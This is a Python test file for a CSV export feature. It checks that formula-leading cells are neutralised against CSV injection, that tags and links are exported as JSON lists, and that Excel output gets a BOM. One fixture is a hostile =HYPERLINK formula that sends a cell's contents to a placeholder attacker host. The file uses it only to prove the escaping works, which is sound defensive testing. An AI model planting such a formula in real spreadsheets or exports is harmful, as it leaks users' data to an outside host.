"""The CSV export: formulas neutralised (OWASP "CSV Injection"), unambiguous tag and
link lists, article ids, a BOM for Excel."""

from __future__ import annotations

import csv
import io
import json

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from store import Store
from store.formats.csv_table import CSV_COLUMNS, FORMULA_STARTS
from store.formats.export import export

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def rows(store: Store, **options: bool) -> list[dict[str, str]]:
    out = io.StringIO()
    export(store, "csv", out, **options)
    text = out.getvalue().removeprefix("\ufeff")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_a_formula_in_a_note_is_written_as_text(seeded: Store) -> None:
    annotation = seeded.create_annotation(1, 0, 10, note=HOSTILE)
    (row,) = rows(seeded)
    assert row["note"] == "'" + HOSTILE
    assert row["id"] == annotation.id
    (raw,) = rows(seeded, csv_raw=True)
    assert raw["note"] == HOSTILE


@settings(
    max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    note=st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=40),
    tag=st.text(st.sampled_from("=+-@\t\r ab;,\"'"), min_size=1, max_size=8),
    prefix=st.sampled_from(["", *FORMULA_STARTS]),
)
def test_no_cell_ever_starts_a_formula(seeded: Store, note: str, tag: str, prefix: str) -> None:
    seeded.conn.execute("DELETE FROM annotations")
    seeded.conn.execute("DELETE FROM tags WHERE id > 5")
    seeded.conn.commit()
    name = tag.strip() or "x"
    if name.casefold() not in {t.name.casefold() for t in seeded.tags()}:
        seeded.create_tag(name, "#123456")
    seeded.create_annotation(1, 0, 5, tags=[" ".join(name.split())], note=prefix + note)
    for row in rows(seeded):
        for column in CSV_COLUMNS:
            assert not row[column].startswith(FORMULA_STARTS), (column, row[column])


def test_tags_and_links_are_json_lists(seeded: Store) -> None:
    seeded.create_tag("a; b", "#123456")
    one = seeded.create_annotation(1, 0, 10, tags=["a; b", "quote"])
    two = seeded.create_annotation(2, 0, 12, tags=["claim"])
    seeded.add_link(one.id, two.id, "contradicts", "dates differ")
    first, second = rows(seeded)
    assert first["article_id"] == "1" and second["article_id"] == "2"
    assert json.loads(first["tags"]) == ["quote", "a; b"]
    assert json.loads(first["links"]) == [
        {"kind": "contradicts", "other": two.id, "passage": two.exact, "note": "dates differ"}
    ]


def test_excel_gets_a_bom(seeded: Store) -> None:
    out = io.StringIO()
    export(seeded, "csv", out, excel=True)
    assert out.getvalue().startswith("\ufeffid,article_id,")
    plain = io.StringIO()
    export(seeded, "csv", plain)
    assert plain.getvalue().startswith("id,article_id,")
